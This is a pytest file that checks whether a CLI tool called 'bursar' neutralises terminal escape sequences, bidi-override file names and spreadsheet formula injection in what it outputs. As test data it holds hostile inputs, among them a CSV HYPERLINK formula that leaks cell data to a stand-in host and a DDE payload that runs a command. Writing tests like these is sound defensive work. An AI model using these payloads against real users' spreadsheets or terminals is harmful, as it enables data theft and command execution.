"""Texts that others chose, as people at terminals and spreadsheets get them."""
import csv
import io
import json
import os
import pty
import subprocess

import pytest
from bots import unique
from harness.paths import program

STEERING = "a\x1b[2J\x1b]0;title\x07b\nforged\td\x7fe\x9bf"
TURNED = "ab\u202egnp.exe\u2066"


def environment(bursard):
    return {"PATH": os.environ["PATH"], "BURSAR_ADDR": bursard.grpc_addr, "TZ": "UTC", "TERM": "xterm", "LC_ALL": "C.UTF-8"}


@pytest.fixture
def bursar(bursard):
    def run(*args, code=0, key=""):
        done = subprocess.run([program("bursar"), *args], capture_output=True, text=True, timeout=60, check=False,
                              env={**environment(bursard), "BURSAR_KEY": key})
        assert done.returncode == code, (args, done.stderr)
        return done.stdout if code == 0 else done.stderr
    return run


@pytest.fixture
def on_terminal(bursard):
    """What a command writes to a terminal."""
    def run(*args):
        master, slave = pty.openpty()
        with subprocess.Popen([program("bursar"), *args], stdout=slave, stderr=slave, stdin=slave, env=environment(bursard)) as command:
            os.close(slave)
            shown = b""
            try:
                while part := os.read(master, 65536):
                    shown += part
            except OSError:  # nobody writes any more
                pass
        os.close(master)
        assert command.returncode == 0, shown
        return shown.decode().replace("\r\n", "\n")
    return run


def controls(text):
    return [char for char in text if (ord(char) < 0x20 and char not in "\n\t") or 0x7f <= ord(char) <= 0x9f]


def test_reasons_steer_no_terminal_and_stay_in_their_line(bursar):
    bursar("account", "put", "alice", "--reason", "plain")
    before = len(bursar("audit").splitlines())
    bursar("account", "suspend", "alice", "--reason", STEERING)
    for args in (("audit",), ("account", "get", "alice"), ("account", "list"), ("audit", "--json"), ("account", "get", "alice", "--json")):
        assert not controls(bursar(*args)), args
    assert len(bursar("audit").splitlines()) == before + 1
    shown = bursar("account", "get", "alice")
    assert "\nforged" not in shown and "suspended: a\\u001b[2J" in shown
    assert json.loads(bursar("account", "get", "alice", "--json"))["suspended_reason"] == STEERING


def test_labels_of_keys_steer_no_terminal(bursar):
    key = json.loads(bursar("key", "create", "operator", "--label", STEERING, "--json"))["secret"]
    bursar("account", "put", "alice", key=key)
    for args in (("key", "list", "--all-tenants"), ("audit",), ("doctor",), ("key", "list", "--all-tenants", "--json")):
        shown = bursar(*args, key=key)
        assert not controls(shown) and "\nforged" not in shown, args
    assert json.loads(bursar("key", "list", "--all-tenants", "--json", key=key))["keys"][0]["label"] == STEERING


def test_ids_turn_no_line_around_on_a_terminal(bursar, on_terminal, bots):
    bots.check(TURNED, interface=TURNED)
    bursar("account", "put", TURNED, "--team", TURNED)
    for args in (("status", TURNED), ("account", "get", TURNED), ("account", "list"), ("audit",), ("account", "get", TURNED, "--json")):
        shown = on_terminal(*args)
        assert "\u202e" not in shown and "\u2066" not in shown and "202e" in shown, args
    assert json.loads(on_terminal("account", "get", TURNED, "--json"))["ref"]["id"] == TURNED
    assert json.loads(bursar("account", "get", TURNED, "--json"))["ref"]["id"] == TURNED


def test_a_cell_of_a_spreadsheet_is_no_formula(bursar, bots):
    tenant = unique("tenant")
    formulas = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "-"]
    plain = ["-1001234567890", "+4917012345", "alice", "a=b"]
    for user in formulas + plain:
        bots.record(bots.check(user, tenant=tenant, input_tokens=5), input_tokens=5)
    bots.drained()
    rows = csv.DictReader(io.StringIO(bursar("report", "month", "--tenant", tenant, "--by", "user", "--csv"), newline=""))
    assert {row["user"] for row in rows} == {"'" + user for user in formulas} | set(plain)
    lines = json.loads(bursar("report", "month", "--tenant", tenant, "--by", "user", "--json"))["lines"]
    assert {line["user"] for line in lines} == {*formulas, *plain}
